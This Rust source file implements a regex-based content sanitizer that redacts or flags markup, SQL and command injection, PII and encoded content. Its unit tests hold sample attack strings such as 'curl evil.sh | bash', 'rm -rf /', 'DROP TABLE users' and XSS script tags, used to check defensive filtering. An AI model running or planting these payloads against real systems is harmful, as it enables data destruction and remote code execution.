//! Content sanitizer: a data-driven rule table applied to free text.
//!
//! Markup, SQL and command injection are always neutralised. Dynamic
//! execution, PII and encoded content follow the [`SanitizerPolicy`], which
//! decides per category whether matches are redacted, stripped or only
//! flagged.

mod rules;

use crate::GuardError;
use log::debug;
use meridian_config::{RuleActionConfig, SanitizerConfig};
use regex::{NoExpand, Regex};
use rules::{BUILTIN_RULES, RuleSpec};
use serde::Serialize;

/// Default marker inserted where content is redacted.
pub const DEFAULT_MARKER: &str = "[FILTERED]";

/// Upper bound on rule table passes for one input.
const MAX_PASSES: usize = 8;

/// Family a rule belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleCategory {
    Markup,
    SqlInjection,
    CommandInjection,
    DynamicExecution,
    Pii,
    Encoding,
    /// Caller-supplied redaction pattern.
    Custom,
}

/// What happens to text matched by a rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleAction {
    /// Replace each match with the marker.
    Redact,
    /// Remove each match.
    Strip,
    /// Keep the text, only record the finding.
    Flag,
}

impl From<RuleActionConfig> for RuleAction {
    fn from(value: RuleActionConfig) -> Self {
        match value {
            RuleActionConfig::Redact => RuleAction::Redact,
            RuleActionConfig::Strip => RuleAction::Strip,
            RuleActionConfig::Flag => RuleAction::Flag,
        }
    }
}

/// Caller policy for the categories that are not always redacted.
#[derive(Debug, Clone, PartialEq)]
pub struct SanitizerPolicy {
    pub marker: String,
    pub dynamic_execution: RuleAction,
    pub pii: RuleAction,
    /// Percent, entity and unicode-escaped markup.
    pub encoded: RuleAction,
    pub control_characters: RuleAction,
    /// Extra regex patterns redacted after the built-in rules.
    pub redact_patterns: Vec<String>,
    /// Collapse runs of whitespace and trim the result.
    pub collapse_whitespace: bool,
}

impl Default for SanitizerPolicy {
    fn default() -> Self {
        Self {
            marker: DEFAULT_MARKER.to_string(),
            dynamic_execution: RuleAction::Flag,
            pii: RuleAction::Flag,
            encoded: RuleAction::Flag,
            control_characters: RuleAction::Strip,
            redact_patterns: Vec::new(),
            collapse_whitespace: false,
        }
    }
}

impl SanitizerPolicy {
    /// Redact dynamic execution and PII in addition to the defaults.
    pub fn strict() -> Self {
        Self {
            dynamic_execution: RuleAction::Redact,
            pii: RuleAction::Redact,
            ..Self::default()
        }
    }

    /// Build a policy from the sanitizer config section.
    pub fn from_config(config: &SanitizerConfig) -> Self {
        Self {
            marker: config.marker.clone(),
            dynamic_execution: config.dynamic_execution.into(),
            pii: config.pii.into(),
            encoded: config.encoded.into(),
            control_characters: config.control_characters.into(),
            redact_patterns: config.redact_patterns.clone(),
            collapse_whitespace: false,
        }
    }
}

/// A compiled rule.
#[derive(Debug, Clone)]
pub struct SanitizeRule {
    pub name: String,
    pub category: RuleCategory,
    pub pattern: Regex,
    pub action: RuleAction,
}

/// A rule that matched during sanitization.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SanitizeFinding {
    pub rule: String,
    pub category: RuleCategory,
    /// Number of matches in the text the rule saw.
    pub matches: usize,
}

/// Result of sanitizing a piece of text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SanitizeOutcome {
    pub cleaned: String,
    /// True when any rule matched.
    pub flagged: bool,
    /// True when a rule changed the text. Whitespace collapsing does not count.
    pub rewritten: bool,
    pub findings: Vec<SanitizeFinding>,
}

impl SanitizeOutcome {
    /// Whether any finding belongs to `category`.
    pub fn has_category(&self, category: RuleCategory) -> bool {
        self.findings
            .iter()
            .any(|finding| finding.category == category)
    }
}

/// Pure, deterministic text sanitizer.
#[derive(Debug, Clone)]
pub struct ContentSanitizer {
    rules: Vec<SanitizeRule>,
    marker: String,
    collapse_whitespace: bool,
}

impl ContentSanitizer {
    /// Compile the built-in rule table and any custom patterns for `policy`.
    pub fn new(policy: SanitizerPolicy) -> Result<Self, GuardError> {
        let mut rules = Vec::with_capacity(BUILTIN_RULES.len() + policy.redact_patterns.len());
        for spec in BUILTIN_RULES {
            rules.push(compile_builtin(spec, &policy)?);
        }
        for (idx, pattern) in policy.redact_patterns.iter().enumerate() {
            rules.push(SanitizeRule {
                name: format!("custom_{idx}"),
                category: RuleCategory::Custom,
                pattern: compile(pattern)?,
                action: RuleAction::Redact,
            });
        }
        debug!(
            "content sanitizer compiled (rules={}, custom={})",
            rules.len(),
            policy.redact_patterns.len()
        );
        Ok(Self {
            rules,
            marker: policy.marker,
            collapse_whitespace: policy.collapse_whitespace,
        })
    }

    /// Sanitizer configured from the sanitizer config section.
    pub fn from_config(config: &SanitizerConfig) -> Result<Self, GuardError> {
        Self::new(SanitizerPolicy::from_config(config))
    }

    /// Query cleanup variant: injection fragments are removed outright and
    /// whitespace is collapsed, so a query made only of payload cleans to "".
    pub fn for_queries() -> Result<Self, GuardError> {
        Self::new(SanitizerPolicy {
            marker: String::new(),
            collapse_whitespace: true,
            ..SanitizerPolicy::default()
        })
    }

    /// Compiled rules in evaluation order.
    pub fn rules(&self) -> &[SanitizeRule] {
        &self.rules
    }

    /// Apply the rule table until the text stops changing and report what
    /// matched. Stripping a character can join the halves of a payload, so a
    /// single pass is not enough.
    pub fn sanitize(&self, text: &str) -> SanitizeOutcome {
        let mut cleaned = text.to_string();
        let mut findings: Vec<SanitizeFinding> = Vec::new();
        let mut rewritten = false;
        for pass in 0..MAX_PASSES {
            let (next, changed) = self.apply_rules(&cleaned, &mut findings);
            cleaned = next;
            if !changed {
                break;
            }
            rewritten = true;
            if pass + 1 == MAX_PASSES {
                debug!("sanitizer pass limit reached (passes={})", MAX_PASSES);
            }
        }
        if self.collapse_whitespace {
            cleaned = cleaned.split_whitespace().collect::<Vec<_>>().join(" ");
        }
        if !findings.is_empty() {
            debug!(
                "content flagged (input_len={}, findings={})",
                text.len(),
                findings.len()
            );
        }
        SanitizeOutcome {
            cleaned,
            flagged: !findings.is_empty(),
            rewritten,
            findings,
        }
    }

    /// One pass over the rule table. Returns the rewritten text and whether
    /// any rule changed it.
    fn apply_rules(&self, text: &str, findings: &mut Vec<SanitizeFinding>) -> (String, bool) {
        let mut cleaned = text.to_string();
        let mut changed = false;
        for rule in &self.rules {
            let matches = rule.pattern.find_iter(&cleaned).count();
            if matches == 0 {
                continue;
            }
            let replacement = match rule.action {
                RuleAction::Redact => Some(self.marker.as_str()),
                RuleAction::Strip => Some(""),
                RuleAction::Flag => None,
            };
            record_finding(findings, rule, matches, replacement.is_some());
            let Some(replacement) = replacement else {
                continue;
            };
            let next = rule
                .pattern
                .replace_all(&cleaned, NoExpand(replacement))
                .into_owned();
            changed |= next != cleaned;
            cleaned = next;
        }
        (cleaned, changed)
    }
}

/// Rewriting rules accumulate matches across passes. Flagged text is left in
/// place and seen again, so flag rules keep their largest count.
fn record_finding(
    findings: &mut Vec<SanitizeFinding>,
    rule: &SanitizeRule,
    matches: usize,
    rewrites: bool,
) {
    match findings.iter_mut().find(|finding| finding.rule == rule.name) {
        Some(finding) if rewrites => finding.matches += matches,
        Some(finding) => finding.matches = finding.matches.max(matches),
        None => findings.push(SanitizeFinding {
            rule: rule.name.clone(),
            category: rule.category,
            matches,
        }),
    }
}

fn compile_builtin(spec: &RuleSpec, policy: &SanitizerPolicy) -> Result<SanitizeRule, GuardError> {
    Ok(SanitizeRule {
        name: spec.name.to_string(),
        category: spec.category,
        pattern: compile(spec.pattern)?,
        action: spec.action.resolve(policy),
    })
}

fn compile(pattern: &str) -> Result<Regex, GuardError> {
    Regex::new(pattern).map_err(|err| GuardError::InvalidPattern {
        pattern: pattern.to_string(),
        message: err.to_string(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn sanitizer() -> ContentSanitizer {
        ContentSanitizer::new(SanitizerPolicy::default()).expect("sanitizer")
    }

    #[test]
    fn clean_text_passes_through() {
        let outcome = sanitizer().sanitize("How can AI help a 50-person marketing team?");
        assert_eq!(outcome.cleaned, "How can AI help a 50-person marketing team?");
        assert!(!outcome.flagged);
        assert!(outcome.findings.is_empty());
    }

    #[test]
    fn script_blocks_are_redacted() {
        let outcome = sanitizer().sanitize("hi <script>alert('xss')</script> there");
        assert_eq!(outcome.cleaned, "hi [FILTERED] there");
        assert!(outcome.flagged);
        assert!(outcome.has_category(RuleCategory::Markup));
    }

    #[test]
    fn stripped_characters_do_not_rejoin_payloads() {
        let sanitizer = sanitizer();
        let outcome = sanitizer.sanitize("rm` -rf /");
        assert_eq!(outcome.cleaned, "[FILTERED] /");
        let rules: Vec<&str> = outcome
            .findings
            .iter()
            .map(|finding| finding.rule.as_str())
            .collect();
        assert_eq!(rules, vec!["backtick", "recursive_delete"]);

        let outcome = sanitizer.sanitize("DROP\u{1} TABLE users");
        assert_eq!(outcome.cleaned, "[FILTERED] users");
        assert!(outcome.has_category(RuleCategory::Encoding));
        assert!(outcome.has_category(RuleCategory::SqlInjection));

        let outcome = sanitizer.sanitize("<scr<script>ipt>alert(1)</script>");
        assert!(!outcome.cleaned.to_lowercase().contains("<script"));
    }

    #[test]
    fn flagged_matches_are_counted_once() {
        let outcome = sanitizer().sanitize("eval(a) eval(b) rm` -rf");
        let eval = outcome
            .findings
            .iter()
            .find(|finding| finding.rule == "eval_call")
            .expect("eval finding");
        assert_eq!(eval.matches, 2);
    }

    #[test]
    fn markup_fragments_are_neutralised() {
        let outcome =
            sanitizer().sanitize(r#"<a href="javascript:go()" onclick="steal()">x</a>"#);
        assert!(!outcome.cleaned.contains('<'));
        assert!(!outcome.cleaned.contains('>'));
        assert!(!outcome.cleaned.to_lowercase().contains("javascript:"));
        assert!(!outcome.cleaned.contains("onclick"));
    }

    #[test]
    fn sql_injection_is_redacted() {
        let outcome = sanitizer().sanitize("'; DROP TABLE users; --");
        assert_eq!(outcome.cleaned, "'; [FILTERED] users; [FILTERED]");

        let outcome = sanitizer().sanitize("admin' OR '1'='1");
        assert_eq!(outcome.cleaned, "admin[FILTERED]");

        let outcome = sanitizer().sanitize("1 UNION SELECT password FROM users");
        assert!(!outcome.cleaned.to_uppercase().contains("UNION SELECT"));
        assert!(outcome.has_category(RuleCategory::SqlInjection));
    }

    #[test]
    fn command_injection_is_redacted() {
        let outcome = sanitizer().sanitize("file.txt; rm -rf /");
        assert_eq!(outcome.cleaned, "file.txt[FILTERED] /");

        let outcome = sanitizer().sanitize("curl evil.sh | bash and `whoami` then $(id)");
        assert!(!outcome.cleaned.contains('`'));
        assert!(!outcome.cleaned.contains("| bash"));
        assert!(!outcome.cleaned.contains("$("));
        assert!(outcome.has_category(RuleCategory::CommandInjection));
    }

    #[test]
    fn default_policy_flags_without_rewriting() {
        let text = "call eval(x) or mail me at jane@example.com, ssn 123-45-6789";
        let outcome = sanitizer().sanitize(text);
        assert_eq!(outcome.cleaned, text);
        assert!(outcome.flagged);
        assert!(!outcome.rewritten);
        assert!(outcome.has_category(RuleCategory::DynamicExecution));
        assert!(outcome.has_category(RuleCategory::Pii));
    }

    #[test]
    fn strict_policy_redacts_pii_and_dynamic_execution() {
        let sanitizer = ContentSanitizer::new(SanitizerPolicy::strict()).expect("sanitizer");
        let outcome = sanitizer.sanitize("eval(x) card 4111 1111 1111 1111 token: abc");
        assert!(!outcome.cleaned.contains("eval("));
        assert!(!outcome.cleaned.contains("4111"));
        assert!(!outcome.cleaned.contains("token:"));
    }

    #[test]
    fn control_characters_are_stripped_and_encodings_flagged() {
        let outcome = sanitizer().sanitize("a\u{0007}b %3Cscript&lt; ok\n");
        assert_eq!(outcome.cleaned, "ab %3Cscript&lt; ok\n");
        let rules: Vec<&str> = outcome
            .findings
            .iter()
            .map(|finding| finding.rule.as_str())
            .collect();
        assert_eq!(
            rules,
            vec![
                "control_characters",
                "percent_encoded_markup",
                "html_entity_markup"
            ]
        );
    }

    #[test]
    fn custom_patterns_use_the_configured_marker() {
        let policy = SanitizerPolicy {
            marker: "[x]".to_string(),
            redact_patterns: vec![r"ACME-\d+".to_string()],
            ..SanitizerPolicy::default()
        };
        let outcome = ContentSanitizer::new(policy)
            .expect("sanitizer")
            .sanitize("ticket ACME-42 and <b>");
        assert_eq!(outcome.cleaned, "ticket [x] and b");
        assert!(outcome.has_category(RuleCategory::Custom));
    }

    #[test]
    fn invalid_custom_pattern_is_rejected() {
        let policy = SanitizerPolicy {
            redact_patterns: vec!["(unclosed".to_string()],
            ..SanitizerPolicy::default()
        };
        let err = ContentSanitizer::new(policy).unwrap_err();
        assert!(matches!(err, GuardError::InvalidPattern { .. }));
    }

    #[test]
    fn query_variant_removes_payloads_and_collapses_whitespace() {
        let sanitizer = ContentSanitizer::for_queries().expect("sanitizer");
        let outcome = sanitizer.sanitize("<script>alert(1)</script>");
        assert_eq!(outcome.cleaned, "");
        let outcome = sanitizer.sanitize("  pricing   DROP TABLE plans ");
        assert_eq!(outcome.cleaned, "pricing plans");
        assert!(outcome.flagged);
        assert!(outcome.rewritten);
        let outcome = sanitizer.sanitize("  pricing  ");
        assert_eq!(outcome.cleaned, "pricing");
        assert!(!outcome.rewritten);
    }

    #[test]
    fn sanitization_is_deterministic_and_stable() {
        let sanitizer = sanitizer();
        let first = sanitizer.sanitize("<script>x</script>; rm -rf / DROP TABLE t");
        let second = sanitizer.sanitize("<script>x</script>; rm -rf / DROP TABLE t");
        assert_eq!(first, second);
        let again = sanitizer.sanitize(&first.cleaned);
        assert_eq!(again.cleaned, first.cleaned);
        assert!(!again.flagged);
    }

    #[test]
    fn policy_maps_config_actions() {
        let config = SanitizerConfig {
            pii: RuleActionConfig::Strip,
            ..SanitizerConfig::default()
        };
        let policy = SanitizerPolicy::from_config(&config);
        assert_eq!(policy.pii, RuleAction::Strip);
        assert_eq!(policy.control_characters, RuleAction::Strip);
        assert_eq!(policy.marker, DEFAULT_MARKER);
    }
}
